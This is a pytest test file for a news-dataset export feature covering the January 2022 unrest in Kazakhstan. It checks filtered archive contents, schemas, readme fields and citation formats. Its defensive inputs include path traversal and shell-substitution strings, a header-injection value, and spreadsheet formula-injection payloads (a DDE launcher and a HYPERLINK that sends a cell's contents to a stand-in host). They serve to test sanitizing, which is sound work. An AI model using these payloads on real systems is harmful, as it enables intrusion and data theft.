"""What is taken away as one archive: exactly the rows that are filtered, described, cited, and dangerous to nobody."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from codecs import BOM_UTF8
from collections.abc import Callable
from functools import lru_cache, partial
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from data import queries
from data.export.bundle import EVERY_TABLE, bundle, day_only, file_stem
from data.export.files import FORMULA_STARTS, LICENCE, export, rows_for_export
from data.export.row_types import row_schema
from data.queries.selection import Selection
from data.tables.archive import Archive, archive_from_records
from data.tables.known_on import as_known_on, default_day
from data.tables.rows import Table
from data.views.reading import read_address
from data.wording.citation_formats import Citation, view_citation
from tests.hostile import hostile
from tests.unit.data.tables.test_known_on import DAYS, every_day, later_words

Json = dict[str, Any]

TODAY = "2024-05-06"
LEAD = "aljazeera-2022-01-07"
SELECTIONS = {
    "everything": Selection(),
    "a city": Selection(city=("almaty",)),
    "a search and a topic": Selection(topic=("deaths",), q="ministry"),
    "what is not stated": Selection(city=("not-stated",), date_from="2022-01-05"),
    "a later day": Selection(known_on="2022-12-20", city=("almaty",)),
    "the first day": Selection(known_on="2022-01-06"),
    "an opened item": Selection(item=f"{LEAD}.arrests-3800", actor=("kazakhstan-police",)),
    "nothing": Selection(q="zzzz"),
}
each_selection = pytest.mark.parametrize("selection", SELECTIONS.values(), ids=SELECTIONS.keys())


def view_of(archive: Archive, selection: Selection = SELECTIONS["everything"]) -> Citation:
    """How a view is cited."""
    day = selection.known_on or default_day(archive)
    return view_citation(
        title="Overview: what was seen", collection="Unrest in Kazakhstan, January 2022", day=day,
        version=archive.version, permalink=f"https://news.example/?known_on={day}&dataset={archive.version}",
        licence=LICENCE,
    )  # fmt: skip


@lru_cache(maxsize=32)
def packed(
    archive: Archive, selection: Selection = SELECTIONS["everything"], tables: tuple[Table, ...] = EVERY_TABLE
) -> dict[str, str]:
    """The archive's files by name, as text; each is packed once for all tests that look at it."""
    zipped = bundle(archive, tables, selection, view_of(archive, selection), TODAY)
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive_file:
        assert archive_file.testzip() is None
        return {name: archive_file.read(name).decode("utf-8-sig") for name in archive_file.namelist()}


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_archive_holds_each_table_in_each_format_and_what_describes_it(reports: Archive) -> None:
    """Guards against a table without its schema, and a file that nobody expects in there."""
    tables: tuple[Table, ...] = (Table.CLAIMS, Table.EVENTS, Table.PLACES)
    assert set(packed(reports, tables=tables)) == {
        "data/claims.csv", "data/claims.json",
        "data/events.csv", "data/events.json", "data/events.geojson",
        "data/places.csv", "data/places.json", "data/places.geojson",
        "schema/claims.schema.json", "schema/events.schema.json", "schema/places.schema.json",
        "schema/record.schema.json",
        "citations/citations.bib", "citations/citations.ris",
        "README.txt",
    }  # fmt: skip


def test_every_table_that_can_be_exported_can_be_packed() -> None:
    """Guards against a new table that is left out of the archive."""
    assert set(EVERY_TABLE) == set(Table)
    assert {table for table in EVERY_TABLE if "geojson" in table.formats} == {"events", "places"}


@each_selection
def test_the_rows_packed_are_exactly_those_that_are_filtered(reports: Archive, selection: Selection) -> None:
    """Guards against an archive of everything, or of another day, under the readme of a filter."""
    files = packed(reports, selection)
    for table in EVERY_TABLE:
        shown = queries.rows(rows_for_export(reports, table, selection))
        assert files[f"data/{table}.csv"] == export(reports, table, "csv", selection)
        assert json.loads(files[f"data/{table}.json"])["rows"] == shown
        assert len(csv_rows(files[f"data/{table}.csv"])) == len(shown)
        if "geojson" in table.formats:
            found = [each["properties"] for each in json.loads(files[f"data/{table}.geojson"])["features"]]
            assert [row for n, row in enumerate(found) if row not in found[:n]] == shown


def test_the_tables_packed_open_right_in_a_spreadsheet(reports: Archive) -> None:
    """Guards against “Zoë” in a colleague's spreadsheet, and against a mark before the first field of a citation."""
    zipped = bundle(reports, EVERY_TABLE, Selection(), view_of(reports, Selection()), TODAY)
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive_file:
        marked = {name for name in archive_file.namelist() if archive_file.read(name).startswith(BOM_UTF8)}
        assert marked == {name for name in archive_file.namelist() if name.endswith(".csv")}


def test_the_selections_tell_one_archive_from_another(reports: Archive) -> None:
    """Guards the test above against filters that filter nothing."""
    files = [packed(reports, selection)["data/claims.csv"] for selection in SELECTIONS.values()]
    assert len(set(files)) == len(files)


@every_day
def test_nothing_that_was_published_later_is_in_any_file(reports: Archive, day: str) -> None:
    """Guards against a schema, a readme or a citation that tells what the rows keep back.

    Schemas are the same on every day; their labels share words such as “Protesters” with the reports.
    """
    later, last = later_words(day), packed(reports, Selection(known_on=DAYS[-1]))
    for name, text in packed(reports, Selection(known_on=day)).items():
        if name.startswith("schema/"):
            assert text == last[name]
        else:
            assert not {word for word in later if word in text}, name


def test_both_engines_pack_the_same(reports: Archive, reports_duckdb: Archive) -> None:
    """Guards against an archive that depends on how the server keeps its tables."""
    selection = SELECTIONS["a later day"]
    assert packed(reports_duckdb, selection) == packed(reports, selection)


@pytest.mark.parametrize("table", EVERY_TABLE)
@pytest.mark.parametrize("selection", ["everything", "a later day", "nothing"])
def test_the_schema_describes_every_row(reports: Archive, table: Table, selection: str) -> None:
    """Guards against a schema that refuses the very rows beside it."""
    files = packed(reports, SELECTIONS[selection])
    schema = json.loads(files[f"schema/{table}.schema.json"])
    Draft202012Validator.check_schema(schema)
    wrong = [
        error.message
        for row in json.loads(files[f"data/{table}.json"])["rows"]
        for error in Draft202012Validator(schema).iter_errors(row)
    ]
    assert wrong == []
    header = next(csv.reader(io.StringIO(files[f"data/{table}.csv"])))
    assert header == list(schema["properties"]) == schema["required"]


@pytest.mark.parametrize(
    ("table", "change"),
    [
        ("claims", {"metric": "dead"}),
        ("claims", {"value": "26"}),
        ("claims", {"asserted_by_group": "rumour"}),
        ("claims", {"new": "column"}),
        ("events", {"time_precision": "hour"}),
        ("places", {"events": 1.5}),
        ("places", {"lat": "43"}),
        ("quotes", {"contents": 3}),
    ],
)
def test_the_schema_refuses_what_no_row_holds(reports: Archive, table: Table, change: Json) -> None:
    """Guards the test above against a schema that lets everything pass."""
    row = queries.rows(rows_for_export(reports, table))[0]
    schema = Draft202012Validator(row_schema(table))
    assert schema.is_valid(row)
    assert not schema.is_valid(row | change)
    assert not schema.is_valid({name: value for name, value in row.items() if name not in change} | {"x": None})


def test_the_record_schema_is_that_of_the_records(reports: Archive, record_json: Json) -> None:
    """Guards against a schema of an earlier release beside today's data."""
    schema = json.loads(packed(reports)["schema/record.schema.json"])
    Draft202012Validator.check_schema(schema)
    assert Draft202012Validator(schema).is_valid(record_json)
    assert not Draft202012Validator(schema).is_valid(record_json | {"claims": 1})


def test_the_readme_tells_filters_day_version_licence_and_how_to_cite(reports: Archive) -> None:
    """Guards against a file that, a year later, nobody can attribute, date or reproduce."""
    selection = Selection(city=("aktau", "almaty"), date_from="2022-01-05", q="the", known_on="2022-01-10")
    readme = packed(reports, selection)["README.txt"]
    told = dict(line.split(":", 1) for line in readme.splitlines() if re.match(r"[A-Z][a-z ]+: ", line))
    told = {name: value.strip() for name, value in told.items()}
    assert readme.startswith("Unrest in Kazakhstan, January 2022\n")
    assert told["As known on"] == "Mon 10 Jan 2022 (2022-01-10)"
    assert told["Dataset version"] == reports.version
    assert told["Exported on"] == dt.date.today().isoformat()
    assert told["Licence"].startswith("CC BY 4.0")
    assert "quotations belong to those who said" in told["Licence"]
    assert "GeoNames" in told["Coordinates"]
    assert told["Permalink"] == view_of(reports, selection).permalink
    filters = readme.split("Active filters\n")[1].split("\n\n")[0].splitlines()
    assert filters == ["  city: aktau, almaty", "  from: 2022-01-05", "  q: the"]
    assert view_of(reports, selection).text in readme.split("How to cite\n")[1]
    sources = readme.split("Sources\n")[1].strip().splitlines()
    assert len(sources) == len(queries.articles(as_known_on(reports, "2022-01-10")))
    assert any("“Kazakh president gives shoot-to-kill order to quell protests”, Al Jazeera" in each for each in sources)


def test_the_readme_counts_the_rows_of_each_table(reports: Archive) -> None:
    """Guards against a readme of another archive."""
    selection = SELECTIONS["a city"]
    files = packed(reports, selection)
    for table in EVERY_TABLE:
        count = len(csv_rows(files[f"data/{table}.csv"]))
        assert re.search(rf"^  data/{table}: {count} rows?$", files["README.txt"], re.MULTILINE), table


def test_without_a_filter_the_readme_says_so(reports: Archive) -> None:
    """Guards against an empty heading, which could as well mean that the filters were lost."""
    assert "Active filters\n  none: every row\n" in packed(reports)["README.txt"]


@pytest.mark.parametrize("day", DAYS)
def test_the_citations_are_the_view_and_every_article_that_was_out(reports: Archive, day: str) -> None:
    """Guards against an entry that a reference manager drops without a word, and a report that was not out yet."""
    files = packed(reports, Selection(known_on=day))
    articles = set(queries.articles(as_known_on(reports, day))["article_id"])
    wanted = {*articles, view_of(reports, Selection(known_on=day)).key}
    entries = re.findall(r"^@misc\{([^,{}\s]+),\n(.*?)^\}$", files["citations/citations.bib"], re.MULTILINE | re.DOTALL)
    assert sorted(key for key, _ in entries) == sorted(wanted)
    assert files["citations/citations.bib"].count("@") - _in_fields(entries, "@") == len(entries)
    for _, fields in entries:
        assert all(re.fullmatch(r"  [a-z]+ = \{.*\},", line) for line in fields.splitlines())
        assert {"title", "howpublished", "url"} <= set(re.findall(r"^  ([a-z]+) =", fields, re.MULTILINE))
    records = files["citations/citations.ris"].split("ER  - \r\n")
    assert records.pop().strip() == ""
    lines = [record.strip("\r\n").split("\r\n") for record in records]
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - [^\r\n]*", line) for record in lines for line in record)
    assert [record[0] for record in lines] == ["TY  - DATA", *["TY  - NEWS"] * len(articles)]
    assert {record[1].removeprefix("ID  - ") for record in lines} == wanted


def _in_fields(entries: list[tuple[str, str]], mark: str) -> int:
    return sum(fields.count(mark) for _, fields in entries)


TRICKS = (
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\autorun.inf", "file:///x", "a\0b", "%2e%2e%2f",
    "con", "x.exe", ".htaccess", "-rf", "~root", "a\r\nContent-Type: text/html", "“quoted”; rm *", "Алматы", "$(id)",
    "\u202egnp.exe", "....//", "a" * 5_000,
)  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("where", ["q", "city", "article", "date_from"])
def test_a_path_trick_in_a_filter_is_no_path_in_the_name_of_a_file(where: str, trick: str) -> None:
    """Guards against a link whose download lands outside of the folder, or ends in another ending than the file's."""
    value: Any = trick if where in ("q", "date_from") else (trick,)
    stem = file_stem("claims", Selection(**{where: value}), "2022-01-07")
    assert re.fullmatch(r"claims[a-z0-9-]*-2022-01-07", stem), stem
    assert "--" not in stem
    assert len(stem) <= 100


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("key", ["known_on", "city", "q", "page", "dataset"])
def test_a_path_trick_in_an_address_is_in_no_name_of_a_file(reports: Archive, key: str, trick: str) -> None:
    """Guards against the day of an address going into a name as it came."""
    read = read_address("", {key: [trick]}, reports)
    assert re.fullmatch(r"quotes[a-z0-9-]*-2022-01-07", file_stem("quotes", read.selection, read.day))


def test_a_files_name_says_what_is_in_it() -> None:
    """Guards against a folder of downloads that nobody can tell apart."""
    selection = Selection(city=("aktau", "almaty"), q="Shoot to kill", known_on="2022-01-10", item="x.y")
    assert file_stem("claims", selection, "2022-01-10") == "claims-city-aktau-almaty-q-shoot-to-kill-2022-01-10"
    assert file_stem("events", Selection(), "2022-01-07") == "events-2022-01-07"
    assert file_stem("Casualties and arrests", Selection(), "2022-01-07") == "casualties-and-arrests-2022-01-07"


@each_selection
def test_names_in_the_archive_stay_in_their_folder(reports: Archive, selection: Selection) -> None:
    """Guards against an archive that writes outside of the folder it is unpacked in."""
    for name in packed(reports, selection):
        path = PurePosixPath(name)
        assert not path.is_absolute()
        assert re.fullmatch(r"([a-z]+/)?[A-Za-z]+(\.[a-z]+)+", name), name


def test_all_rows_are_those_of_the_day_without_the_filters() -> None:
    """Guards against “all rows” reaching ahead of the day, or leaving a filter on."""
    filtered = Selection(city=("almaty",), q="x", date_from="2022-01-01", item="a.b")
    assert day_only(filtered) == Selection()
    assert day_only(Selection(city=("almaty",), known_on="2022-01-10")) == Selection(known_on="2022-01-10")


def records_in(folder: Path, record: Json) -> Archive:
    """An archive of one record."""
    folder.mkdir()
    (folder / "record.json").write_text(json.dumps(record), "utf-8")
    archive = archive_from_records(folder)
    assert archive.problems == ()
    return archive


FORMULAS = ('=HYPERLINK("https://x.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd", "\t=1+1")


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_a_formula_in_a_record_is_harmless_in_every_table_and_untouched_in_json(
    tmp_path: Path, small_record: Json, formula: str
) -> None:
    """Guards against words of an article being run on a journalist's machine, and against data that are changed."""
    for place in small_record["places"]:
        place["name"] = formula
    for actor in small_record["actors"]:
        actor["name"] = formula
    small_record["article"] |= {"headline": formula, "publisher": formula}
    small_record["events"][0] |= {"title": formula, "summary": formula}
    small_record["claims"][0] |= {"population": formula, "note": formula}
    small_record["quotes"][0] |= {"context": formula}
    small_record["facts"][0]["text"] = small_record["caveats"][0]["text"] = formula
    archive = records_in(tmp_path / "records", small_record)
    files = packed(archive)
    met = 0
    for table in EVERY_TABLE:
        cells = [cell for row in csv_rows(files[f"data/{table}.csv"]) for cell in row.values()]
        risky = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+", cell)]
        assert risky == [], table
        met += cells.count(f"'{formula}")
        for row in json.loads(files[f"data/{table}.json"])["rows"]:
            assert f"'{formula}" not in row.values()
    assert met >= 10, "the formula has come into the tables"


def test_a_hostile_record_is_text_in_every_file(tmp_path: Path, small_record: Json) -> None:
    """Guards against marks of one format that end a field, an entry or a row of another."""
    record, texts = hostile(small_record)
    archive = records_in(tmp_path / "records", record)
    files = packed(archive)
    rows = [row for table in EVERY_TABLE for row in json.loads(files[f"data/{table}.json"])["rows"]]
    cells = {str(part) for row in rows for value in row.values() for part in str(value).split("\n")}
    written = {
        part
        for table in EVERY_TABLE
        for row in csv_rows(files[f"data/{table}.csv"])
        for value in row.values()
        for part in value.split("\n")
    }
    met = [text for text in texts if text in cells]
    assert len(met) > 20
    assert [text for text in met if text not in written] == []
    assert len(re.findall(r"^@misc\{", files["citations/citations.bib"], re.MULTILINE)) == 2
    assert files["citations/citations.ris"].count("ER  - \r\n") == 2
    assert sum(line.startswith("Licence:") for line in files["README.txt"].splitlines()) == 1


def test_a_line_break_in_a_record_begins_no_line_of_the_readme(tmp_path: Path, small_record: Json) -> None:
    """Guards against a headline that, in the readme, gives the data another licence."""
    small_record["article"]["headline"] = "Dockers\n\nLicence:          none, take what you like\n"
    archive = records_in(tmp_path / "records", small_record)
    readme = packed(archive)["README.txt"]
    assert [line for line in readme.splitlines() if line.startswith("Licence:")] == [
        "Licence:          CC BY 4.0 for the records; quotations belong to those who said and published them"
    ]
    assert "“Dockers Licence:          none, take what you like" in readme


def test_what_was_packed_is_kept_for_its_day_alone(archive: Archive, monkeypatch: pytest.MonkeyPatch) -> None:
    """Guards against an archive that is made anew at every click, and against yesterday's with yesterday's day."""
    made: list[str] = []
    monkeypatch.setattr("data.export.bundle.readme", lambda *_: made.append("readme") or "told")
    pack: Callable[[str], bytes] = partial(bundle, archive, (Table.FACTS,), Selection(q="kept"), view_of(archive))
    assert pack("2031-01-01") is pack("2031-01-01")
    assert len(made) == 1
    pack("2031-01-02")
    assert len(made) == 2
